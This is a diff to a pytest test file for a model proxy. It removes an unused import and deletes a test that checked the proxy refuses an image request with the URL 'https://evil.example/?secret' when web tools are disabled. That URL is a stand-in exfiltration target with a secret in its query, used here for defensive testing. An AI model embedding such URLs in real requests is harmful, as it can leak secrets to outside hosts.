@@ -10,12 +10,11 @@ import pytest
 from anyio.abc import AnyByteStream
 
 from tests.support.patience import PATIENCE
-from tests.support.proxied import BODY, REDACT, ask, client, listening, open_run, plain_client, upstream
+from tests.support.proxied import BODY, ask, client, listening, open_run, plain_client, upstream
 from tests.support.scripted_api import ScriptedApi, text
 from zelda_ci.model_proxy import connections
 from zelda_ci.model_proxy.limits import Limits
 from zelda_ci.model_proxy.modes import LiveMode
-from zelda_ci.model_proxy.proxy import Allowed, ModelProxy
 
 pytestmark = pytest.mark.anyio
 
@@ -71,17 +70,6 @@ async def test_a_request_without_end_is_refused_before_it_fills_the_memory() -> 
     assert status == 413
     assert sent < 2 * Limits.request_bytes
     assert meter.usage().requests == 0
-
-
-async def test_the_api_fetches_nothing_for_a_run_without_web_tools() -> None:
-    image = {"type": "image", "source": {"type": "url", "url": "https://evil.example/?secret"}}
-    with ScriptedApi([text("Hello.")]) as api:
-        async with ModelProxy(LiveMode(upstream(api.url)), REDACT) as proxy:
-            with proxy.session(run_label="run", budget_usd=None, placeholders={}, allowed=Allowed(web=False)) as meter:
-                refused = await ask(meter, messages=[{"role": "user", "content": [image]}])
-                answered = await ask(meter)
-    assert (refused.status_code, answered.status_code) == (403, 200)
-    assert len(api.requests) == 1
 
 
 async def test_an_answer_that_is_left_before_it_tells_its_price_counts_against_the_budget() -> None:
